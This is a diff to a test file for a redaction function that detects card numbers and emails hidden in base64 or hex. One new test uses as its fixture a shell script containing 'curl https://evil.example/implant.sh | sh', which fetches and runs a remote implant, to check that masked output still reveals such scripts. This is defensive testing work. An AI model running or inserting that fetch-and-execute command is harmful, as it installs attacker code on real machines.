@@ -42,7 +42,10 @@ describe('regulated data hidden in an encoding (ADR 0045)', () => {
     const letter = `Dear customer, we refunded the card 4111 1111 1111 1111 on ${'the order of last week, '.repeat(4)}regards.`;
     const mime = base64(letter).match(/.{1,76}/g)!;
     expect(mime.length).toBeGreaterThan(2);
-    expect(maskText(`Content-Transfer-Encoding: base64\r\n\r\n${mime.join('\r\n')}\r\n`)).toBe('Content-Transfer-Encoding: base64\r\n\r\n[encoded card]\r\n');
+    // A letter is more than its card: it shows, decoded and masked, so that what it says is seen (red team, 2026-12-07).
+    expect(maskText(`Content-Transfer-Encoding: base64\r\n\r\n${mime.join('\r\n')}\r\n`)).toBe(
+      `Content-Transfer-Encoding: base64\r\n\r\n[encoded card: ${letter.replace('4111 1111 1111 1111', '[card …1111]')}]\r\n`,
+    );
     // Split where the card's digits are cut apart: only the whole has a card in it.
     const card = base64('card 4111 1111 1111 1111');
     expect(maskText(`${card.slice(0, 12)} ${card.slice(12, 24)}\n${card.slice(24)}`)).toBe('[encoded card]');
@@ -52,6 +55,16 @@ describe('regulated data hidden in an encoding (ADR 0045)', () => {
     // Words of whole groups of four between spaces are not base64 of text.
     const words = 'ThisIsTwelve ThisIsTwelve Otherwords12';
     expect(maskText(words)).toBe(words);
+  });
+
+  it('shows what an encoded token says beside its regulated data, masked, so that a mask never hides a script (red team, 2026-12-07)', () => {
+    const script = '#!/bin/sh\nMAILTO=ops@acme.com\ncurl https://evil.example/implant.sh | sh\n';
+    const shown = maskText(Buffer.from(script).toString('base64'));
+    expect(shown).toBe('[encoded email: #!/bin/sh\nMAILTO=o***@[email]\ncurl https://evil.example/implant.sh | sh\n]');
+    expect(regulatedKinds(Buffer.from(script).toString('base64'))).toEqual(['email']);
+    // The data with a label at most stays one mask.
+    expect(maskText(Buffer.from('Email: jane.doe@example.com').toString('base64'))).toBe('[encoded email]');
+    expect(maskText(Buffer.from('jane.doe@example.com').toString('hex'))).toBe('[encoded email]');
   });
 
   it('names every kind it found in one token, and is idempotent', () => {
